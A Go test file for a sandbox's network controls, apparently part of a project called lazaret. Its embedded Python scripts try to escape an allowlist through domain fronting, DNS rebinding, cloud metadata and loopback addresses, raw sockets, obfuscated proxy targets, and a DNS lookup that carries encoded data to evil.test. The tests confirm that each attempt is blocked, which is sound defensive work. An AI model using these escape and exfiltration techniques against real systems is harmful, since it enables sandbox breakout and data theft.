package sandbox_test

import (
	"fmt"
	"net/netip"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"lazaret.dev/lazaret/policies"
	"lazaret.dev/lazaret/sandbox"
)

// details lists a result's violations as "type: detail".
func details(r sandbox.Result) string {
	var b strings.Builder
	for _, v := range r.Violations {
		fmt.Fprintf(&b, "%s %s %s: %s (%d)\n", v.Severity, v.Type, v.Syscall, v.Detail, v.Count)
	}
	return b.String()
}

// noProxy is the beginning of scripts that know no proxy.
const noProxy = `
import os, socket, ssl, sys, json
for v in list(os.environ):
    if v.lower().endswith("_proxy"): del os.environ[v]
import urllib.request, urllib.error
`

const withProxy = `
import os, socket, ssl, sys, json, urllib.request, urllib.error
`

const tries = `
def get(url, **kw):
    try:
        return urllib.request.urlopen(urllib.request.Request(url, **kw), timeout=5).read().decode()
    except urllib.error.HTTPError as e:
        return "HTTP %d %s" % (e.code, e.read().decode())
    except OSError as e:
        return "%s: %s" % (type(e).__name__, e)
`

// reach runs a script with a network and returns what it printed.
func (n *internet) reach(t *testing.T, r *sandbox.Runner, level policies.Level, script string, rules ...string) (string, sandbox.Result) {
	t.Helper()
	result, err := r.Run(t.Context(), n.spec(t, level, script, rules...))
	require.NoError(t, err)
	require.Equal(t, sandbox.Completed, result.Outcome, "%s\n%s", result.Stderr, details(result))
	return string(result.Stdout), result
}

var clients = map[string]string{"proxy": withProxy + tries, "transparent": noProxy + tries}

func TestNetwork_Requests(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	for mode, begin := range clients {
		t.Run(mode, func(t *testing.T) {
			out, result := n.reach(t, r, policies.Standard, begin+`
print(get("http://api.example.com/x", data=b"12345"))
print(get("https://api.example.com/y"))
print(get("https://API.example.COM/z"))
print(len(get("https://big.example.com/big")))
`, "Api.Example.com.", "*.example.com")
			assert.Equal(t, "POST api.example.com /x 5\nGET api.example.com /y 0\nGET API.example.COM /z 0\n3145728\n", out)
			assert.Empty(t, details(result))
			require.Len(t, result.Connections, 4)
			c := result.Connections[3]
			assert.Equal(t, "big.example.com", c.Host)
			assert.EqualValues(t, 443, c.Port)
			assert.Equal(t, n.address.String()+":443", c.Address)
			assert.Greater(t, c.BytesIn, int64(3<<20))
			assert.Positive(t, c.BytesOut)
			assert.Positive(t, c.Duration)
		})
	}
}

func TestNetwork_Names(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	n.names["a.example.com.evil.test"], n.names["evilexample.com"] = []netip.Addr{n.address}, []netip.Addr{n.address}
	script := `
for name in ["a.example.com", "A.b.Example.COM.", "example.com", "evilexample.com", "a.example.com.evil.test", "evil.test"]:
    print(name, get("http://" + name + "/").split()[:2])
`
	for mode, begin := range clients {
		t.Run(mode, func(t *testing.T) {
			n.asked = nil
			out, result := n.reach(t, r, policies.Standard, begin+script, "*.example.com")
			lines := strings.Split(strings.TrimSpace(out), "\n")
			require.Len(t, lines, 6)
			assert.Contains(t, lines[0], "'GET', 'a.example.com'")
			assert.Contains(t, lines[1], "'GET', 'a.b.example.com'")
			for _, line := range lines[2:] {
				assert.NotContains(t, line, "GET", "permitted")
			}
			for _, name := range []string{"example.com", "evilexample.com", "a.example.com.evil.test", "evil.test"} {
				assert.Regexp(t, `(?m)^Medium UnauthorizedNetworkAccess : `+name+`(:80)?: host is not permitted`, details(result))
				assert.NotContains(t, n.asked, name, "the worker resolved a name that is not permitted")
			}
			assert.Len(t, result.Violations, 4)
		})
	}
}

func TestNetwork_Levels(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	out, result := n.reach(t, r, policies.Minimal, noProxy+tries+`print(get("http://evil.test/"))`, "*")
	assert.Equal(t, "GET evil.test / 0\n", out)
	require.Len(t, result.Connections, 1)
	assert.Equal(t, "evil.test", result.Connections[0].Host)

	out, result = n.reach(t, r, policies.Strict, withProxy+tries+`
print(get("https://api.example.com/"))
print(get("https://evil.test/"))
`, "api.example.com")
	assert.Equal(t, "GET api.example.com / 0\nURLError: <urlopen error Tunnel connection failed: 403 Forbidden>\n", out)
	assert.Equal(t, "Medium UnauthorizedNetworkAccess : evil.test:443: host is not permitted (1)\n", details(result))
}

// TestNetwork_PrivateAddresses: names that lead into the worker's own networks.
func TestNetwork_PrivateAddresses(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	wrong := []string{
		"127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "198.18.0.1", "0.0.0.0", "224.0.0.1",
		"::1", "fe80::1", "fd00:ec2::254", "::ffff:127.0.0.1", "::ffff:8.8.8.8", "64:ff9b::a00:1", "2002:7f00:1::", "::",
	}
	var script strings.Builder
	for i, address := range wrong {
		name := fmt.Sprintf("n%d.example.com", i)
		n.names[name] = []netip.Addr{netip.MustParseAddr(address)}
		fmt.Fprintf(&script, "print(get('http://%s/'))\n", name)
	}
	n.names["mixed.example.com"] = []netip.Addr{n.address, netip.MustParseAddr("10.0.0.1")}
	script.WriteString("print(get('http://mixed.example.com/'))\n")
	for mode, begin := range clients {
		t.Run(mode, func(t *testing.T) {
			out, result := n.reach(t, r, policies.Standard, begin+script.String(), "*.example.com")
			assert.NotContains(t, out, "GET")
			assert.Empty(t, result.Connections)
			for _, address := range append(wrong, "10.0.0.1") {
				assert.Contains(t, details(result), "resolves to "+address+" (")
			}
			assert.Len(t, result.Violations, len(wrong)+1)
			for _, v := range result.Violations {
				assert.Equal(t, sandbox.High, v.Severity, v.Detail)
			}
		})
	}
}

// TestNetwork_Rebinding: a name that turns private after its first answer.
func TestNetwork_Rebinding(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	for mode, begin := range clients {
		t.Run(mode, func(t *testing.T) {
			n.names["api.example.com"] = []netip.Addr{n.address}
			n.changed["api.example.com"] = []netip.Addr{netip.MustParseAddr("127.0.0.1")}
			out, result := n.reach(t, r, policies.Standard, begin+`
print(get("http://api.example.com/first"))
print(get("http://api.example.com/second"))
`, "api.example.com")
			assert.Contains(t, out, "/first")
			assert.NotContains(t, out, "/second")
			assert.Equal(t, "High UnauthorizedNetworkAccess : api.example.com:80: resolves to 127.0.0.1 (loopback address) (1)\n", details(result))
		})
	}
}

// TestNetwork_Fronting: a permitted connection that names another host inside.
func TestNetwork_Fronting(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	script := `
def tls(name, port=443):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    s = open_to("api.example.com", port)
    s.settimeout(5)
    try:
        s = c.wrap_socket(s, server_hostname=name)
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        return s.recv(100)
    except OSError as e:
        return type(e).__name__
def plain(data, port=80):
    s = open_to("api.example.com", port)
    s.settimeout(5)
    try:
        s.sendall(data); return s.recv(1000).decode()
    except OSError as e:
        return type(e).__name__
print(tls("evil.test"), tls(None), tls("api.example.com.evil.test"))
print(plain(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
print(plain(b"SSH-2.0-x\r\n\r\n"))
print(plain(b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n", 443))
print(tls("api.example.com"))
`
	opens := map[string]string{
		"proxy": withProxy + `
def open_to(name, port):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(b"CONNECT %s:%d HTTP/1.1\r\n\r\n" % (name.encode(), port))
    assert b" 200 " in s.recv(1000)
    return s
`,
		"transparent": noProxy + `
def open_to(name, port):
    return socket.create_connection((name, port))
`,
	}
	for mode, begin := range opens {
		t.Run(mode, func(t *testing.T) {
			out, result := n.reach(t, r, policies.Standard, begin+script, "api.example.com")
			assert.Equal(t, 1, strings.Count(out, "200 OK"), out)
			assert.NotContains(t, out, "evil")
			got := details(result)
			for _, want := range []string{
				"High UnauthorizedNetworkAccess : api.example.com:443: TLS for server name \"evil.test\" (1)",
				"High UnauthorizedNetworkAccess : api.example.com:443: TLS without a server name (1)",
				"High UnauthorizedNetworkAccess : api.example.com:443: TLS for server name \"api.example.com.evil.test\" (1)",
				"High UnauthorizedNetworkAccess : api.example.com:80: request for Host \"evil.test:80\" (1)",
				"Medium UnauthorizedNetworkAccess : api.example.com:80: malformed",
				"Medium UnauthorizedNetworkAccess : api.example.com:443: not TLS",
			} {
				assert.Contains(t, got, want)
			}
			assert.Len(t, result.Violations, 6)
		})
	}
}

// TestNetwork_Past: what does not go through the worker goes nowhere, and is seen.
func TestNetwork_Past(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	out, result := n.reach(t, r, policies.Standard, noProxy+`
def tried(name, f):
    try:
        f(); print("ESCAPED", name)
    except OSError as e:
        print(name, type(e).__name__)
def udp(): return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tried("direct", lambda: socket.create_connection(("93.184.216.34", 443), 2))
tried("six", lambda: socket.create_connection(("2606:2800:220:1::1", 80), 2))
tried("mapped", lambda: socket.socket(socket.AF_INET6).connect(("::ffff:93.184.216.34", 80)))
tried("metadata", lambda: socket.create_connection(("169.254.169.254", 80), 2))
tried("dns", lambda: udp().sendto(b"x", ("8.8.8.8", 53)))
tried("datagram", lambda: udp().sendmsg([b"x"], [], 0, ("8.8.8.8", 123)))
tried("connected datagram", lambda: udp().connect(("8.8.4.4", 53)))
tried("fast open", lambda: socket.socket().sendto(b"x", socket.MSG_FASTOPEN, ("1.1.1.1", 443)))
tried("listening", lambda: socket.socket().bind(("127.0.0.1", 8080)))
tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tried("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1))
tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
tried("vsock", lambda: socket.socket(socket.AF_VSOCK))
tried("port 22", lambda: socket.create_connection(("api.example.com", 22), 2))
tried("given address", lambda: socket.create_connection(("198.19.1.2", 25), 2))
s = socket.create_connection(("198.19.1.2", 443), 2); print("no name", s.recv(1))
udp().sendto(b"junk", ("127.0.0.53", 53))
`, "api.example.com")
	assert.NotContains(t, out, "ESCAPED")
	got := details(result)
	assert.Contains(t, got, "High UnauthorizedNetworkAccess : 198.19.1.2:443: benchmarking address, and host is not permitted")
	for _, want := range []string{
		"93.184.216.34:443", "[2606:2800:220:1::1]:80", "[::ffff:93.184.216.34]:80", "169.254.169.254:80", "8.8.8.8:53",
		"8.8.8.8:123", "8.8.4.4:53", "1.1.1.1:443", "127.0.0.1:8080", "AF_PACKET", "AF_VSOCK", "AF_INET, SOCK_RAW", "AF_INET, SOCK_DGRAM", "DNS: ",
	} {
		assert.Contains(t, got, want)
	}
	for _, v := range result.Violations {
		assert.Equal(t, sandbox.UnauthorizedNetworkAccess, v.Type)
	}
	assert.Empty(t, result.Connections)
}

// TestNetwork_PortRefused: a port that is not permitted, through the proxy.
func TestNetwork_PortRefused(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	out, result := n.reach(t, r, policies.Strict, withProxy+`
for target in ["api.example.com:22", "127.0.0.1:80", "[::1]:443", "169.254.169.254:80", "2130706433:80", "0x7f.1:80", "127.1:80", "api.example.com@evil.test:80"]:
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(b"CONNECT %s HTTP/1.1\r\n\r\n" % target.encode())
    print(target, s.recv(1000).decode().split("\r\n")[0])
`, "api.example.com")
	assert.NotContains(t, out, " 200 ")
	got := details(result)
	for _, want := range []string{
		"api.example.com:22: port 22 is not permitted", "127.0.0.1:80: loopback address, and host is not permitted", "[::1]:443: loopback address",
		"169.254.169.254:80: metadata address", "numeric address", "user information",
	} {
		assert.Contains(t, got, want)
	}
	assert.Len(t, result.Violations, 8)
}

// TestNetwork_NamesNeverLeave: asking for names tells nobody anything.
func TestNetwork_NamesNeverLeave(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	out, result := n.reach(t, r, policies.Standard, noProxy+`
for name in ["c2VjcmV0.evil.test", "secret.api.example.com", "api.example.com"]:
    try:
        print(name, socket.gethostbyname(name)[:4])
    except OSError as e:
        print(name, e)
print(socket.getaddrinfo("api.example.com", 443, type=socket.SOCK_STREAM)[0][4][1])
try: print(socket.gethostbyaddr("198.18.1.0"))
except OSError: pass
`, "api.example.com")
	assert.Contains(t, out, "api.example.com 198.")
	assert.Empty(t, n.asked, "a look-up alone must not leave the machine")
	assert.Contains(t, details(result), "Medium UnauthorizedNetworkAccess : c2vjcmv0.evil.test: host is not permitted (DNS)")
	assert.Contains(t, details(result), "secret.api.example.com: host")
	assert.Len(t, result.Violations, 2, "%s", details(result))
}

// TestNetwork_ListedLoopback: the worker's own services, when an operator lists them.
func TestNetwork_ListedLoopback(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	script := `print(get("http://%s/x"))` + "\n" + `print(get("http://127.0.0.1:1/")[:8])`
	for mode, begin := range clients {
		t.Run(mode, func(t *testing.T) {
			out, result := n.reach(t, r, policies.Standard, begin+strings.Replace(script, "%s", n.address.String(), 1))
			assert.Regexp(t, "^GET "+n.address.String()+" /x 0\n(HTTP 403|URLError)", out)
			assert.Len(t, result.Connections, 1)
		})
	}
}

// TestNetwork_PythonRequests uses the library that most scripts use, or pip's copy of it.
func TestNetwork_PythonRequests(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	out, result := n.reach(t, r, policies.Standard, `
import sys
sys.path.append("/usr/lib/python3/dist-packages")
try:
    import requests
except ImportError:
    try:
        from pip._vendor import requests
    except ImportError:
        print("missing"); sys.exit()
for proxied in (True, False):
    with requests.Session() as s:
        s.trust_env = proxied
        for i in range(3):
            print(s.post("http://api.example.com/p", json={"a": 1}).text, s.get("https://api.example.com/g", verify="/ca.pem").text)
        print(s.post("http://api.example.com/chunks", data=(b"x" * 1000 for _ in range(10))).text)
`, "api.example.com")
	if out == "missing\n" && os.Getenv("CI") == "" {
		t.Skip("neither python3-requests nor python3-pip is installed")
	}
	assert.Equal(t, strings.Repeat(strings.Repeat("POST api.example.com /p 8 GET api.example.com /g 0\n", 3)+"POST api.example.com /chunks 10000\n", 2), out)
	for _, v := range result.Violations {
		assert.Equal(t, sandbox.Low, v.Severity, v)
	}
}

// TestNetwork_OtherClients: curl and Node know nothing of us either.
func TestNetwork_OtherClients(t *testing.T) {
	r, n := newRunner(t), newInternet(t)
	for name, argv := range map[string][]string{
		"curl, proxy":       {"/usr/bin/curl", "-sS", "--cacert", "/ca.pem", "https://api.example.com/c", "http://api.example.com/d"},
		"curl, transparent": {"/usr/bin/curl", "-sS", "--noproxy", "*", "--cacert", "/ca.pem", "https://api.example.com/c", "http://api.example.com/d"},
		"node": {"/usr/bin/node", "-e", `
			const get = async (url) => process.stdout.write(await (await fetch(url)).text());
			get("https://api.example.com/c").then(() => get("http://api.example.com/d")).catch((e) => console.log(e, e.cause))`},
	} {
		t.Run(name, func(t *testing.T) {
			if _, err := os.Stat(argv[0]); err != nil && os.Getenv("CI") == "" {
				t.Skip(err)
			}
			s := n.spec(t, policies.Standard, "", "api.example.com")
			s.Argv, s.Limits.Memory = argv, 512<<20
			s.Env = append(s.Env, "NODE_EXTRA_CA_CERTS=/ca.pem")
			result, err := r.Run(t.Context(), s)
			require.NoError(t, err)
			assert.Equal(t, "GET api.example.com /c 0GET api.example.com /d 0", string(result.Stdout), "%s\n%s", result.Stderr, details(result))
			for _, v := range result.Violations {
				assert.Equal(t, sandbox.Low, v.Severity, v)
			}
			assert.Len(t, result.Connections, 2)
		})
	}
}

func TestNetwork_SpecIsChecked(t *testing.T) {
	for rule, want := range map[string]string{
		"a.example.com:53":   "port 53, which the sandbox itself uses",
		"a.example.com:3128": "port 3128, which the sandbox itself uses",
	} {
		n := &internet{address: netip.MustParseAddr("127.0.0.1")}
		_, err := newRunner(t).Run(t.Context(), n.spec(t, policies.Standard, "pass", rule))
		require.ErrorIs(t, err, sandbox.ErrSpec)
		assert.ErrorContains(t, err, want)
	}
}
